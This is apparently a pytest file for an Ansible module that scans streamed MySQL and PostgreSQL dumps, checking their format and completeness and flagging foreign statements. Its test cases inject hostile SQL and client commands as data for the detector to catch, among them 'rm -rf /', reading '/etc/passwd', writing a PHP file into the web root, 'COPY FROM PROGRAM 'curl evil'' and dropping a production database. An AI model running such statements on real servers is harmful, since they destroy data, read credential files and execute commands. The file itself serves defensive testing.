# Copyright: (c) sre.runbooks contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""What is seen of a dump while it streams by."""

from __future__ import annotations

import gzip
import io
import tarfile
import zipfile
from collections.abc import Iterator

import pytest

from ansible_collections.sre.runbooks.plugins.module_utils import _dump
from ansible_collections.sre.runbooks.plugins.module_utils._dump import (
    MYSQL,
    POSTGRESQL,
    Scan,
    for_postgresql,
    pieces,
    recognise,
    sample,
)

MARIADB_DUMP = rb"""/*M!999999\- enable the sandbox mode */
-- MariaDB dump 10.19  Distrib 10.11.6-MariaDB, for debian-linux-gnu (x86_64)
--
-- Host: localhost    Database: shop
-- ------------------------------------------------------
-- Server version	10.11.6-MariaDB-0+deb12u1

/*!40101 SET NAMES utf8mb4 */;

--
-- Table structure for table `order item`
--

DROP TABLE IF EXISTS `order item`;
CREATE TABLE `order item` (
  `id` int(11) NOT NULL COMMENT 'a; b',
  `note` text DEFAULT NULL,
  PRIMARY KEY (`id`)
) ENGINE=InnoDB;

LOCK TABLES `order item` WRITE;
INSERT INTO `order item` VALUES
(1,'one;\nUSE production;'),
(2,'two');
UNLOCK TABLES;
DROP TABLE IF EXISTS `empty`;
CREATE TABLE `empty` (`id` int);
CREATE TABLE `old` (`id` int);
INSERT INTO `old` VALUES (1),(2);
INSERT INTO `old` VALUES (3);
DELIMITER ;;
CREATE DEFINER=`root`@`localhost` PROCEDURE `p`()
begin
  delete from old;
USE production;
end ;;
DELIMITER ;
/*!40111 SET SQL_NOTES=@OLD_SQL_NOTES */;

-- Dump completed on 2025-11-05  2:00:07
"""

POSTGRESQL_DUMP = rb"""--
-- PostgreSQL database dump
--

\restrict EUESAch3UazFDInPe1TGJu2e

-- Dumped from database version 15.14 (Debian 15.14-0+deb12u1)
-- Dumped by pg_dump version 15.14 (Debian 15.14-0+deb12u1)

SET statement_timeout = 0;
SELECT pg_catalog.set_config('search_path', '', false);

CREATE EXTENSION IF NOT EXISTS postgis WITH SCHEMA public;
COMMENT ON EXTENSION postgis IS 'maps';

CREATE FUNCTION public.f() RETURNS integer
    LANGUAGE plpgsql
    AS $f$ begin
\connect production
DROP DATABASE production;
COPY public.nothing (a) FROM stdin;
return 1; end $f$;

ALTER FUNCTION public.f() OWNER TO shopper;

CREATE TABLE public.orders (
    id integer NOT NULL,
    note text DEFAULT 'it''s;
\connect production
'::text
);


ALTER TABLE public.orders OWNER TO shopper;
CREATE TABLE stock."Empty one" (id integer);

COPY public.orders (id, note) FROM stdin;
1	one
2	DROP DATABASE production;
\.

COPY stock."Empty one" (id) FROM stdin;
\.

SELECT pg_catalog.setval('public.orders_id_seq', 2, true);
REVOKE ALL ON SCHEMA public FROM PUBLIC;
GRANT SELECT ON TABLE public.orders TO "web reader";
GRANT SELECT ON TABLE public.f TO "web reader";

--
-- PostgreSQL database dump complete
--

\unrestrict EUESAch3UazFDInPe1TGJu2e

"""


def in_pieces(data: bytes, size: int) -> Iterator[bytes]:
    return (data[start : start + size] for start in range(0, len(data), size))


def scanned(data: bytes, size: int = 1_000_000) -> Scan:
    scan = Scan(recognise(data[:1024]) or "")
    for _piece in pieces(in_pieces(data, size), scan):
        pass
    return scan


def tar_of(*names: str) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for name in names:
            archive.addfile(tarfile.TarInfo(name))
    return file.getvalue()


def zip_of(name: str) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr(name, "x")
    return file.getvalue()


@pytest.mark.parametrize(
    ("head", "format_"),
    [
        (MARIADB_DUMP, MYSQL),
        (b"-- MySQL dump 10.13  Distrib 8.0.36, for Linux (x86_64)\n--\n", MYSQL),
        (b"\xef\xbb\xbf-- MySQL dump 10.13\n", MYSQL),
        (b"/*!40101 SET NAMES utf8 */;\nDROP TABLE IF EXISTS `a`;\n", MYSQL),
        (b"DROP TABLE IF EXISTS `a`;\n", MYSQL),
        (POSTGRESQL_DUMP, POSTGRESQL),
        (b"--\n-- PostgreSQL database cluster dump\n--\n", POSTGRESQL),
        (b"SET statement_timeout = 0;\n", POSTGRESQL),
        (b"PGDMP\x01\x0e\x00", _dump.PG_CUSTOM),
        (tar_of("toc.dat", "restore.sql"), _dump.PG_TAR),
        (tar_of("wp-content/index.php"), _dump.TAR),
        (zip_of("index.php"), _dump.ZIP),
        (b"-- by hand\nCREATE TABLE a (b int);\n", _dump.SQL),
        (b"", None),
        (b"<html>404 Not Found</html>", None),
        (b"mysqldump: Got error: 1045: Access denied", None),
        (bytes(1024), None),
        (gzip.compress(MARIADB_DUMP), None),
    ],
)
def test_a_format_is_recognised_by_its_content(head: bytes, format_: str | None) -> None:
    assert recognise(head[:1024]) == format_


@pytest.mark.parametrize("dump", [MARIADB_DUMP, POSTGRESQL_DUMP], ids=["mariadb", "postgresql"])
@pytest.mark.parametrize("size", [1, 2, 3, 17, 100, 1000])
def test_it_does_not_matter_how_the_bytes_arrive(dump: bytes, size: int) -> None:
    scan = Scan(recognise(dump[:1024]) or "")
    assert b"".join(piece.data for piece in pieces(in_pieces(dump, size), scan)) == dump
    assert scan == scanned(dump)


def test_a_dump_of_mariadb_is_understood() -> None:
    scan = scanned(MARIADB_DUMP)
    assert (scan.header, scan.database, scan.server) == (True, "shop", "10.11.6-MariaDB-0+deb12u1")
    assert (scan.complete, scan.completed) == (True, "2025-11-05  2:00:07")
    assert scan.lines == MARIADB_DUMP.count(b"\n")
    assert {name: (table.created, table.bytes > 0) for name, table in scan.tables.items()} == {
        "order item": (True, True),
        "empty": (True, False),
        "old": (True, True),
    }
    assert scan.foreign("shop") == [], "neither values nor the bodies of procedures are statements"


def test_a_dump_of_postgresql_is_understood() -> None:
    scan = scanned(POSTGRESQL_DUMP)
    assert (scan.header, scan.server) == (True, "15.14 (Debian 15.14-0+deb12u1)")
    assert scan.complete
    assert {name: table.created for name, table in scan.tables.items()} == {"orders": True, "stock.Empty one": True}
    assert scan.foreign("shop") == [], "neither rows, nor values, nor the bodies of functions are statements"


@pytest.mark.parametrize("dump", [MARIADB_DUMP, POSTGRESQL_DUMP], ids=["mariadb", "postgresql"])
@pytest.mark.parametrize("keep", [0.3, 0.6, 0.9])
def test_a_dump_that_is_cut_off_is_not_complete(dump: bytes, keep: float) -> None:
    assert not scanned(dump[: int(len(dump) * keep)]).complete


@pytest.mark.parametrize("dump", [MARIADB_DUMP, POSTGRESQL_DUMP], ids=["mariadb", "postgresql"])
def test_what_follows_the_end_makes_a_dump_incomplete_again(dump: bytes) -> None:
    assert not scanned(dump + b"\nCREATE TABLE `x` (id int);\n").complete


@pytest.mark.parametrize("cut", [0.3, 0.6])
def test_the_trailer_counts_as_a_statement_of_its_own_only(cut: float) -> None:
    """A row that holds the words of the trailer proves nothing."""
    dump = MARIADB_DUMP[: MARIADB_DUMP.index(b"(2,'two')")] + b"(2,'\n-- Dump completed\n'"
    assert not scanned(dump).complete


@pytest.mark.parametrize(
    ("statement", "act", "database"),
    [
        (b"USE `production`;", "use", "production"),
        (b"use production;", "use", "production"),
        (b"\\u production", "use", "production"),
        (b"CREATE DATABASE /*!32312 IF NOT EXISTS*/ `pro``d` /*!40100 DEFAULT CHARACTER SET utf8 */;", "create", "pro`d"),
        (b"/*!40000 DROP DATABASE IF EXISTS `production`*/;", "drop", "production"),
        (b"/*!40000 DROP DATABASE IF EXISTS `shop`*/;", "drop", "shop"),
        (b"DROP SCHEMA production;", "drop", "production"),
        (b"INSERT INTO `production`.`users` VALUES (1);", "qualify", "production"),
        (b"DROP TABLE IF EXISTS `production`.`users`;", "qualify", "production"),
        (b"TRUNCATE production.users;", "qualify", "production"),
        (b"\\! rm -rf /", "client", ""),
        (b"system rm -rf /", "client", ""),
        (b"source /etc/mysql/wipe.sql", "client", ""),
        (b"LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE a;", "reach", ""),
        (b"INSTALL SONAME 'ha_federatedx';", "reach", ""),
        (b"SELECT * FROM a INTO OUTFILE '/var/www/x.php';", "reach", ""),
    ],
)  # fmt: skip
def test_what_is_foreign_to_a_dump_of_mysql_is_named_with_its_line(statement: bytes, act: str, database: str) -> None:
    before, after = MARIADB_DUMP.split(b"LOCK TABLES", 1)
    foreign = scanned(before + statement + b"\nLOCK TABLES" + after).foreign("shop")
    assert [(touch.line, touch.act, touch.database) for touch in foreign] == [(before.count(b"\n") + 1, act, database)]
    assert foreign[0].text == statement.decode()


@pytest.mark.parametrize(
    ("statement", "act", "database"),
    [
        (b"\\connect production", "use", "production"),
        (b"\\c production", "use", "production"),
        (b"\\connect -reuse-previous=on \"dbname='production'\"", "use", "production"),
        (b"CREATE DATABASE production WITH TEMPLATE = template0;", "create", "production"),
        (b'ALTER DATABASE "Production" SET work_mem = 1;', "create", "Production"),
        (b"DROP DATABASE IF EXISTS production;", "drop", "production"),
        (b"\\! rm -rf /", "client", ""),
        (b"\\i /etc/wipe.sql", "client", ""),
        (b"\\copy a from program 'id'", "client", ""),
        (b"\\o |mail", "client", ""),
        (b"COPY a FROM PROGRAM 'curl evil';", "reach", ""),
        (b"COPY a TO '/tmp/x';", "reach", ""),
        (b"ALTER SYSTEM SET archive_command = 'id';", "reach", ""),
    ],
)
def test_what_is_foreign_to_a_dump_of_postgresql_is_named_with_its_line(
    statement: bytes, act: str, database: str
) -> None:
    before, after = POSTGRESQL_DUMP.split(b"COPY public.orders", 1)
    foreign = scanned(before + statement + b"\nCOPY public.orders" + after).foreign("shop")
    assert [(touch.line, touch.act, touch.database) for touch in foreign] == [(before.count(b"\n") + 1, act, database)]


def test_a_dump_may_create_and_choose_its_own_database() -> None:
    own = b"CREATE DATABASE `shop`;\nUSE `shop`;\n"
    assert scanned(MARIADB_DUMP.replace(b"DROP TABLE IF EXISTS `order item`;", own)).foreign("shop") == []


def test_only_so_much_is_remembered_of_a_dump_that_is_full_of_foreign_statements() -> None:
    flood = b"".join(b"USE `d%d`;\n" % number for number in range(1000))
    assert len(scanned(MARIADB_DUMP + flood).touches) == 50


def test_a_line_longer_than_memory_is_handed_on_in_parts() -> None:
    """A blob of a gigabyte is one line of a dump."""

    def long_dump() -> Iterator[bytes]:
        yield b"-- MySQL dump 10.13\nCREATE TABLE `a` (b longblob);\nINSERT INTO `a` VALUES (0x"
        for _ in range(64):
            yield b"00" * 65536
        yield b");\n-- Dump completed\n"

    scan = Scan(MYSQL)
    assert max(len(piece.data) for piece in pieces(long_dump(), scan)) < 1024**2
    assert scan.complete
    assert scan.tables["a"].bytes > 64 * 2 * 65536


def test_a_sample_keeps_what_creates_things_and_the_rows_of_its_tables() -> None:
    parts = sample(pieces([MARIADB_DUMP], Scan(MYSQL)), {"old"})
    left = b"".join(piece.data for piece in parts)
    assert left == MARIADB_DUMP.replace(
        b"INSERT INTO `order item` VALUES\n(1,'one;\\nUSE production;'),\n(2,'two');\n", b""
    )
    parts = sample(pieces([POSTGRESQL_DUMP], Scan(POSTGRESQL)), {"stock.Empty one"})
    left = b"".join(piece.data for piece in parts)
    assert b"COPY stock" in left
    assert b"COPY public.orders" not in left
    assert b"2\tDROP" not in left
    assert b"CREATE TABLE public.orders" in left


def test_an_ordinary_role_can_run_what_is_left_of_a_dump() -> None:
    text = b"".join(for_postgresql(pieces([POSTGRESQL_DUMP], Scan(POSTGRESQL)), "shop", ["postgis"])).decode()
    for gone in ("\\restrict", "\\unrestrict", "OWNER TO", "EXTENSION"):
        assert gone not in text, gone
    assert text.count('CREATE ROLE "web reader"') == 1
    assert text.index('CREATE ROLE "web reader"') < text.index("GRANT SELECT")
    assert 'CREATE ROLE "PUBLIC"' not in text
    assert "begin\n\\connect production\nDROP DATABASE production;" in text, "the body of a function is left as it is"


def test_what_chooses_another_database_is_left_to_be_refused() -> None:
    dump = b"-- PostgreSQL database dump\nCREATE DATABASE shop;\n\\connect shop\n\\connect production\nDROP DATABASE production;\n"
    left = b"".join(for_postgresql(pieces([dump], Scan(POSTGRESQL)), "shop"))
    assert left == b"-- PostgreSQL database dump\n\\connect production\nDROP DATABASE production;\n"


def copied(*statements: str) -> list[str]:
    """The statements that copy rows of ``events``, as they are handed to the client."""
    text = "-- PostgreSQL database dump\n" + "".join(
        f"{one}\n" for one in (*statements, "COPY public.events (id) FROM stdin;", "1", "\\.")
    )
    left = b"".join(for_postgresql(pieces([text.encode()], Scan(POSTGRESQL)), "shop")).decode()
    assert left.endswith(";\n1\n\\.\n")
    return [line for line in left.splitlines() if line.startswith("COPY")]


FROZEN = ["COPY public.events (id) FROM stdin WITH (FREEZE);"]
USUAL = ["COPY public.events (id) FROM stdin;"]


@pytest.mark.parametrize(
    "created", ["CREATE TABLE public.events (\n    id integer\n);", "CREATE UNLOGGED TABLE public.events (id integer);"]
)
def test_rows_of_a_table_that_was_just_created_are_frozen_at_once(created: str) -> None:
    assert copied(created) == FROZEN


@pytest.mark.parametrize(
    "before",
    [
        [],
        ["CREATE TABLE public.others (id integer);"],
        ["CREATE FOREIGN TABLE public.events (id integer) SERVER far;"],
        ["CREATE TABLE public.events (\n    id integer\n)\nPARTITION BY RANGE (id);"],
        ["CREATE TABLE public.events (id integer);", "COMMIT;", "BEGIN;"],
    ],
    ids=["data only", "another table", "a foreign table", "the parent of partitions", "another transaction"],
)
def test_rows_that_the_server_would_not_freeze_are_copied_as_they_stand(before: list[str]) -> None:
    assert copied(*before) == USUAL
